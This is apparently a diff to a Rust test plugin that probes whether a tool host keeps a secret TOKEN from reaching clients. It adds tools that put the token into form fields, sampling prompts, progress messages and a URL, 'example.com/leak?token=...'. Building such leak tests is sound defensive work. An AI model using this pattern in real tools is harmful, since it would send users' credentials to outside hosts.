@@ -77,6 +77,58 @@ fn env(_: NoArgs) -> Result<String, ToolError> {
     Ok(std::env::var("TOKEN").unwrap_or_else(|_| "unset".into()))
 }
 
+/// Asks its client three things, each with TOKEN in every field the
+/// client is shown: a form (message, and the schema's title and
+/// description), a URL to open (message and URL), and a sampling request
+/// (prompt, system prompt, stop sequence). Says which were answered.
+fn ask(_: NoArgs) -> Result<String, ToolError> {
+    use corral_sdk::client::{self, Form, OpenUrl, Sampling};
+    let token = token()?;
+    let schema = json!({
+        "type": "object",
+        "properties": {
+            "answer": {
+                "type": "string",
+                "title": format!("title {token}"),
+                "description": format!("description {token}"),
+                "default": token,
+            }
+        }
+    });
+    let asked = client::ask((
+        Form::<corral_sdk::serde_json::Value>::with_schema(format!("form {token}"), schema),
+        OpenUrl::new(
+            format!("open {token}"),
+            format!("https://example.com/leak?token={token}"),
+        ),
+        Sampling::prompt(format!("prompt {token}"))
+            .system(format!("system {token}"))
+            .stop_sequence(token.clone())
+            .max_tokens(10),
+    ));
+    Ok(match asked {
+        Ok(_) => "answered".into(),
+        Err(err) => format!("not answered: {err}"),
+    })
+}
+
+/// Sends TOKEN as progress, then works on for `ms` milliseconds (long
+/// enough to become a task), then says so.
+fn slow(args: Slow) -> Result<String, ToolError> {
+    let token = token()?;
+    progress(1.0, Some(2.0), Some(&format!("slowly using {token}")));
+    std::thread::sleep(std::time::Duration::from_millis(args.ms));
+    Ok("done".into())
+}
+
+/// How long `slow` works.
+#[derive(Deserialize, JsonSchema)]
+#[serde(deny_unknown_fields)]
+struct Slow {
+    /// Milliseconds.
+    ms: u64,
+}
+
 plugin! {
     Tool::new("leak", leak)
         .description("Log TOKEN, send it as progress, print it, and return it as text and structured content."),
@@ -86,4 +138,7 @@ plugin! {
     Tool::new("length", length).description("The length of secret `name`'s value, or \"none\"."),
     Tool::new("names", names).description("The names get-all returns, comma-separated."),
     Tool::new("env", env).description("The environment variable TOKEN, or \"unset\"."),
+    Tool::new("ask", ask)
+        .description("Ask the client a form, a URL and a sampling request, each with TOKEN."),
+    Tool::new("slow", slow).description("Send TOKEN as progress, then work on for `ms` milliseconds."),
 }
